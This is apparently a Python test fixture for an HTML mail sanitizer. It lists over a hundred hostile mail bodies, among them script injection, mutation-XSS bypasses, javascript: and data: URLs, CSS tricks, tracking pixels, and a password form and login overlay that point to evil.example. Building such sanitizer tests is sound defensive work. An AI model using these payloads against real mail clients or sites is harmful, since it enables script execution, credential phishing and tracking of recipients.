"""Hostile HTML for the mail sanitizer: script injection, mXSS and privacy leaks.

Each vector is an HTML mail body a sender controls. ``hosts`` lists the remote
hosts the sanitizer must report as blocked (in order) when remote content is
not allowed; None leaves the report unchecked (the resource is removed for
another reason, e.g. its element is dropped whole).

Sources of inspiration: the OWASP XSS filter evasion cheat sheet, the html5sec
list, DOMPurify's and bleach's mXSS reports, and e-mail tracking techniques.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class XssVector:
    id: str
    description: str
    html: str
    hosts: tuple[str, ...] | None = ()


TRACK = "track.example"

VECTORS: tuple[XssVector, ...] = (
    # -- script elements -------------------------------------------------------
    XssVector("script", "Plain script element.", "<script>alert(1)</script>hi"),
    XssVector(
        "script-src",
        "External script.",
        '<script src="https://evil.example/x.js"></script>',
    ),
    XssVector("script-mixed-case", "Mixed-case tag name.", "<ScRiPt>alert(1)</sCrIpT>"),
    XssVector(
        "script-split",
        "A script tag split around another, to survive naive stripping.",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    XssVector(
        "script-unclosed", "Script left open to the end.", "<p>a<script>alert(1)"
    ),
    XssVector(
        "script-in-attribute",
        "Markup inside a quoted attribute must stay text.",
        '<p title="</p><script>alert(1)</script>">x</p>',
    ),
    XssVector(
        "script-entity-name",
        "An entity in the tag name does not make a tag.",
        "<&#115;cript>alert(1)</script>",
    ),
    XssVector(
        "script-null-in-name",
        "NUL bytes inside the tag name.",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
    ),
    # -- event handlers --------------------------------------------------------
    XssVector("img-onerror", "Classic broken image.", "<img src=x onerror=alert(1)>"),
    XssVector(
        "img-onerror-remote",
        "Handlers on a remote image.",
        '<img src="https://track.example/a.png" onerror="alert(1)" onload="alert(2)">',
        (TRACK,),
    ),
    XssVector("body-onload", "Body handler.", "<body onload=alert(1)>hi</body>"),
    XssVector(
        "handlers-many-tags",
        "Handlers on many allowed tags.",
        "<div onclick=alert(1) onmouseover=alert(2)>x</div>"
        "<p onfocus=alert(1) tabindex=1 autofocus>y</p>"
        '<a href="https://ok.example/" onclick="alert(1)">z</a>'
        "<span onpointerenter=alert(1)>w</span>"
        "<table onmouseover=alert(1)><tr ondblclick=alert(1)>"
        "<td onclick=alert(1)>c</td></tr></table>"
        "<b oncopy=alert(1)>b</b><font onmouseenter=alert(1)>f</font>",
    ),
    XssVector(
        "details-ontoggle",
        "details/ontoggle fires without user action.",
        "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    ),
    XssVector(
        "marquee-onstart", "Marquee handler.", "<marquee onstart=alert(1)>m</marquee>"
    ),
    XssVector(
        "media-onerror",
        "Audio and video error handlers.",
        "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    ),
    XssVector(
        "input-autofocus",
        "Autofocus plus onfocus.",
        "<input autofocus onfocus=alert(1)>",
    ),
    XssVector(
        "handler-slash-separators",
        "Slashes instead of spaces between attributes.",
        '<img/src="x"/onerror=alert(1)>',
    ),
    XssVector(
        "handler-newlines",
        "Newlines around the attribute name and equals sign.",
        "<img src=x\nonerror\n=\nalert(1)>",
    ),
    XssVector(
        "handler-uppercase", "Upper-case handler.", "<IMG SRC=x ONERROR=alert(1)>"
    ),
    XssVector(
        "handler-null-byte",
        "NUL byte inside the handler name.",
        "<img src=x o\x00nerror=alert(1)>",
    ),
    XssVector(
        "handler-backticks",
        "Backticks as quotes (old IE).",
        "<img src=`x` onerror=`alert(1)`>",
    ),
    XssVector(
        "attribute-quote-break",
        "Attributes glued together or with stray quotes.",
        '<img alt="a" "onerror=alert(1)" src=x><img src="x"onerror="alert(1)">'
        "<a title='x' href=javascript:alert(1)//>a</a>",
    ),
    XssVector(
        "unclosed-tag-eof",
        "A tag still open at the end of input.",
        '<p>a</p><a href="javascript:alert(1)',
    ),
    XssVector(
        "unclosed-img-eof", "Image tag cut at EOF.", "<img src=x onerror=alert(1)//"
    ),
    # -- dangerous URL schemes -------------------------------------------------
    XssVector(
        "href-javascript", "javascript: link.", '<a href="javascript:alert(1)">x</a>'
    ),
    XssVector(
        "href-javascript-case",
        "Mixed-case scheme.",
        '<a href="JaVaScRiPt:alert(1)">x</a>',
    ),
    XssVector(
        "href-javascript-tab-entity",
        "Tab entity inside the scheme.",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
    ),
    XssVector(
        "href-javascript-decimal",
        "Whole scheme as decimal entities.",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
        '&#58;alert(1)">x</a>',
    ),
    XssVector(
        "href-javascript-no-semicolon",
        "Numeric entity without semicolon.",
        '<a href="&#106avascript:alert(1)">x</a>',
    ),
    XssVector(
        "href-javascript-padded-hex",
        "Zero-padded hex entities.",
        '<a href="&#x0000006A;avascript&#x003A;alert(1)">x</a>',
    ),
    XssVector(
        "href-javascript-leading-controls",
        "Leading space and control characters before the scheme.",
        '<a href=" &#14; javascript:alert(1)">x</a>'
        '<a href="\x01javascript:alert(1)">y</a>',
    ),
    XssVector(
        "href-javascript-newline",
        "Newline inside the scheme.",
        '<a href="java\nscript:alert(1)">x</a>'
        '<a href="java&NewLine;script:alert(1)">y</a>',
    ),
    XssVector(
        "href-javascript-colon-entity",
        "Named entity for the colon.",
        '<a href="javascript&colon;alert(1)">x</a>',
    ),
    XssVector(
        "href-javascript-unicode",
        "Fullwidth letters and a line separator inside the scheme.",
        '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>'
        '<a href="java\u2028script:alert(1)">y</a>',
    ),
    XssVector("href-vbscript", "vbscript: link.", '<a href="vbscript:msgbox(1)">x</a>'),
    XssVector(
        "href-data-html",
        "data: HTML document.",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    XssVector(
        "href-data-padded",
        "data: with case and leading space.",
        '<a href=" DATA:text/html,<script>alert(1)</script>">x</a>',
    ),
    XssVector(
        "href-relative",
        "Relative and fragment links would hit the app's own origin.",
        '<a href="/logout">x</a><a href="#top">y</a><a href="?delete=1">z</a>',
    ),
    XssVector(
        "href-file-and-other",
        "Other schemes.",
        '<a href="file:///etc/passwd">a</a><a href="ftp://x.example/">b</a>'
        '<a href="intent://x#Intent;end">c</a><a href="tel:123">d</a>',
    ),
    XssVector(
        "img-javascript-src",
        "javascript: image source.",
        '<img src="javascript:alert(1)" alt="a">',
    ),
    XssVector(
        "img-data-src",
        "data: SVG image with script.",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    ),
    XssVector(
        "img-legacy-sources",
        "lowsrc/dynsrc and livescript.",
        '<img src="livescript:x" lowsrc="javascript:alert(1)" dynsrc="javascript:x">',
    ),
    XssVector(
        "img-forged-placeholder",
        "A sender-made placeholder mark carries no URL.",
        '<img data-blocked="remote" src="javascript:alert(1)" alt="fake">',
    ),
    # -- forms and legacy elements --------------------------------------------
    XssVector(
        "form-phishing",
        "Credential form posting to the sender.",
        '<form action="https://evil.example/steal" method="post">Password '
        '<input name="password" type="password"><input type="submit"></form>',
    ),
    XssVector(
        "formaction",
        "Button formaction.",
        '<form><button formaction="javascript:alert(1)">Go</button></form>',
    ),
    XssVector(
        "button-onclick", "Button handler.", "<button onclick=alert(1)>Click</button>"
    ),
    XssVector(
        "isindex",
        "Legacy isindex with action.",
        '<isindex action="javascript:alert(1)" type="image">',
    ),
    XssVector("keygen", "keygen autofocus.", "<keygen autofocus onfocus=alert(1)>"),
    XssVector(
        "select-template-style",
        "Template and style inside select.",
        "<select><template><style><img src=x onerror=alert(1)></style>"
        "</template></select>",
    ),
    # -- document-level elements -----------------------------------------------
    XssVector(
        "base-href",
        "base would retarget every relative URL.",
        '<base href="https://evil.example/"><a href="x">x</a>',
    ),
    XssVector(
        "meta-refresh",
        "Redirect through meta refresh.",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    XssVector(
        "meta-refresh-javascript",
        "Meta refresh to javascript:.",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ),
    XssVector(
        "link-stylesheet",
        "External style sheet.",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ),
    XssVector(
        "link-prefetch",
        "DNS prefetch and prefetch leak the open.",
        '<link rel="dns-prefetch" href="//track.example">'
        '<link rel="prefetch" href="https://track.example/">',
    ),
    # -- frames, objects -------------------------------------------------------
    XssVector(
        "iframe-srcdoc",
        "iframe with inline document.",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    ),
    XssVector(
        "iframe-src", "Remote iframe.", '<iframe src="https://evil.example/"></iframe>'
    ),
    XssVector(
        "frameset",
        "frameset with javascript: frame.",
        '<frameset><frame src="javascript:alert(1)"></frameset>',
    ),
    XssVector(
        "object-data",
        "object with HTML data.",
        '<object data="javascript:alert(1)" type="text/html"></object>',
    ),
    XssVector("embed-src", "Plugin embed.", '<embed src="https://evil.example/x.swf">'),
    XssVector(
        "applet-param",
        "Java applet.",
        '<applet code="X"><param name="a" value="b"></applet>',
    ),
    # -- SVG -------------------------------------------------------------------
    XssVector("svg-onload", "svg onload.", "<svg onload=alert(1)>"),
    XssVector(
        "svg-script",
        "Script inside svg (parsed as foreign content).",
        "<svg><script>alert(1)</script></svg>",
    ),
    XssVector(
        "svg-a-xlink",
        "SVG link with xlink:href.",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text>'
        "</a></svg>",
    ),
    XssVector(
        "svg-animate",
        "animate sets href to javascript:.",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>X</text></a></svg>",
    ),
    XssVector(
        "svg-set",
        "set adds an event handler.",
        '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    ),
    XssVector(
        "svg-foreignobject",
        "HTML inside foreignObject.",
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe>'
        "</foreignObject></svg>",
    ),
    XssVector(
        "svg-style-mxss",
        "style is not raw text inside svg; mutation on re-parse.",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    ),
    XssVector(
        "svg-image-tracker",
        "SVG image loads a remote URL.",
        '<svg><image href="https://track.example/p.png"/></svg>',
        None,
    ),
    # -- MathML ----------------------------------------------------------------
    XssVector(
        "math-mglyph-style",
        "mglyph/style namespace confusion (DOMPurify 2.0.0 bypass).",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>",
    ),
    XssVector(
        "math-mtext-textarea",
        "Nested svg/mtext/textarea namespace confusion.",
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=alert(1) src=1>">',
    ),
    XssVector(
        "math-href",
        "MathML href.",
        '<math href="javascript:alert(1)"><mi>click</mi></math>',
    ),
    # -- raw text and parsing tricks -------------------------------------------
    XssVector(
        "noscript-mxss",
        "noscript parses differently with and without scripting.",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    XssVector(
        "noembed-mxss",
        "noembed is raw text in browsers.",
        '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    ),
    XssVector(
        "noframes-mxss",
        "noframes is raw text in browsers.",
        '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    ),
    XssVector(
        "template",
        "Template content.",
        "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    ),
    XssVector(
        "xmp-mxss",
        "xmp is raw text.",
        '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    ),
    XssVector(
        "textarea-mxss",
        "textarea is RCDATA.",
        '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    ),
    XssVector(
        "title-rcdata",
        "title is RCDATA.",
        "<title><img src=x onerror=alert(1)></title>",
    ),
    XssVector(
        "plaintext",
        "plaintext swallows the rest of the document.",
        "<plaintext><img src=x onerror=alert(1)>",
    ),
    XssVector(
        "iframe-rawtext",
        "iframe content is raw text.",
        '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    ),
    XssVector(
        "comment-empty",
        "<!--> closes at once; the rest is markup.",
        "<!--><img src=x onerror=alert(1)-->",
    ),
    XssVector(
        "comment-bang-close",
        "Comment closed with --!>.",
        "<!-- --!><img src=x onerror=alert(1)> -->",
    ),
    XssVector(
        "conditional-comment",
        "Outlook conditional comment.",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->ok",
    ),
    XssVector(
        "cdata-section",
        "CDATA is a bogus comment in HTML.",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
    ),
    XssVector(
        "processing-instruction",
        "XML processing instruction.",
        '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    ),
    XssVector(
        "table-foster-parenting",
        "Content fostered out of a table.",
        "<table><img src=x onerror=alert(1)><tr><td>x</td></tr>"
        "<style>*{}</style></table>",
    ),
    XssVector(
        "unicode-garbage",
        "Lone surrogates, BOM and controls around markup.",
        "\ud800<b>x</b>\ufeff\udfff<img src=x\x0bonerror=alert(1)>",
    ),
    # -- CSS -------------------------------------------------------------------
    XssVector(
        "style-import",
        "@import in a style element.",
        "<style>@import url(https://evil.example/x.css);</style><p>x</p>",
    ),
    XssVector(
        "style-expression-block",
        "expression() in a style element.",
        "<style>p{width:expression(alert(1))}</style><p>x</p>",
    ),
    XssVector(
        "style-block-tracker",
        "Tracking background in a style element.",
        "<style>body{background:url(https://track.example/s.png)}</style>x",
    ),
    XssVector(
        "style-expression",
        "IE expression().",
        '<p style="width: expression(alert(1))">x</p>',
    ),
    XssVector(
        "style-expression-comment",
        "expression() split by a comment.",
        '<p style="width: exp/**/ression(alert(1))">x</p>'
        '<p style="xss:expr/*XSS*/ession(alert(1))">y</p>',
    ),
    XssVector(
        "style-behavior-binding",
        "behavior and -moz-binding.",
        '<p style="behavior: url(x.htc); -moz-binding: '
        'url(https://evil.example/x.xml#xss)">x</p>',
    ),
    XssVector(
        "style-javascript-url",
        "javascript: inside url().",
        '<p style="background:url(javascript:alert(1))">x</p>',
    ),
    XssVector(
        "style-escaped-url",
        "CSS escapes spell url().",
        '<p style="background: u\\72 l(https://track.example/p.gif)">x</p>'
        '<p style="background:\\75\\72\\6c(https://track.example/u.png)">y</p>',
        (TRACK,),
    ),
    XssVector(
        "style-entity-url",
        "HTML entities spell the parentheses of url().",
        '<p style="background-image:url&#40;https://track.example/e.gif&#41;">x</p>',
        (TRACK,),
    ),
    XssVector(
        "style-cursor-url",
        "cursor: url() (allowed by bleach's default property list).",
        '<p style="cursor:url(https://track.example/c.cur),auto">x</p>',
        None,
    ),
    XssVector(
        "style-list-style-image",
        "List image.",
        '<ul style="list-style: url(https://track.example/l.png)"><li>x</li></ul>',
        None,
    ),
    XssVector(
        "style-border-image",
        "Border image.",
        '<div style="border-image: url(https://track.example/b.png) 30 round">x</div>',
        None,
    ),
    XssVector(
        "style-image-set",
        "image-set() instead of url().",
        "<div style=\"background-image: image-set('https://track.example/i.png' 1x)\">"
        "x</div>",
        None,
    ),
    XssVector(
        "style-custom-property",
        "url() hidden in a custom property.",
        '<div style="--x:url(https://track.example/v.png); background: var(--x)">'
        "x</div>",
        None,
    ),
    XssVector(
        "style-import-in-attribute",
        "@import inside a style attribute.",
        "<p style=\"@import 'https://evil.example/x.css'; color:red\">x</p>",
    ),
    XssVector(
        "style-position-fixed",
        "Full-window overlay for phishing.",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'z-index:9999;background:#fff">Session expired, '
        '<a href="https://evil.example/login">log in</a></div>',
    ),
    XssVector(
        "style-position-absolute",
        "Absolute positioning with odd spacing and case.",
        '<div style="position : ABSOLUTE ; top:0">x</div>'
        '<div style="POSITION:\\66 ixed">y</div>',
    ),
    XssVector(
        "style-quote-break",
        "Quotes and markup inside a style value.",
        "<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>",
    ),
    # -- privacy: remote resources ---------------------------------------------
    XssVector(
        "tracking-pixel",
        "1x1 remote image.",
        '<img src="https://track.example/open.gif?id=123" width="1" height="1" alt="">',
        (TRACK,),
    ),
    XssVector(
        "table-background",
        "background attribute on table and cell.",
        '<table background="https://track.example/bg.png"><tr>'
        '<td background="http://cdn.example/td.png">x</td></tr></table>',
        (TRACK, "cdn.example"),
    ),
    XssVector(
        "srcset",
        "Remote srcset candidates.",
        '<img srcset="https://track.example/a.png 1x, https://cdn.example/b.png 2x"'
        ' alt="hero">',
        (TRACK, "cdn.example"),
    ),
    XssVector(
        "srcset-javascript",
        "javascript: in srcset.",
        '<img srcset="javascript:alert(1) 1x" alt="x">',
    ),
    XssVector(
        "video-poster",
        "Video poster image.",
        '<video poster="https://track.example/poster.png"></video>',
        None,
    ),
    XssVector(
        "input-image",
        "Image input.",
        '<input type="image" src="https://track.example/i.png">',
        None,
    ),
    XssVector(
        "css-background-cell",
        "Tracking background in a cell's style.",
        "<table><tr><td style=\"background-image:url('https://track.example/td.png');"
        'color:#333">x</td></tr></table>',
        (TRACK,),
    ),
    XssVector(
        "body-background",
        "Body background attribute.",
        '<body background="https://track.example/body.png">x</body>',
        None,
    ),
    XssVector(
        "picture-source",
        "picture/source candidates.",
        '<picture><source srcset="https://track.example/s.png"><img src="cid:logo">'
        "</picture>",
        None,
    ),
    XssVector(
        "img-legacy-remote",
        "lowsrc/dynsrc to a tracker.",
        '<img dynsrc="https://track.example/d.avi" '
        'lowsrc="https://track.example/l.png">',
        None,
    ),
    XssVector(
        "a-ping",
        "Hyperlink auditing ping.",
        '<a href="https://ok.example/" ping="https://track.example/ping">x</a>',
    ),
    XssVector(
        "img-protocol-relative",
        "Protocol-relative image URL.",
        '<img src="//track.example/p.gif">',
        (TRACK,),
    ),
    XssVector(
        "img-backslashes",
        "Backslashes read as slashes by browsers.",
        '<img src="https:\\\\track.example\\p.gif">'
        '<img src="http:track.example/q.gif">',
        (TRACK,),
    ),
    XssVector(
        "img-credentials-port",
        "Credentials and port in the image URL.",
        '<img src="HTTPS://user:pass@Track.Example:8443/p.gif">',
        (TRACK,),
    ),
    XssVector(
        "div-background",
        "background attribute where it is not allowed.",
        '<div background="https://track.example/x.png">x</div>',
        None,
    ),
)
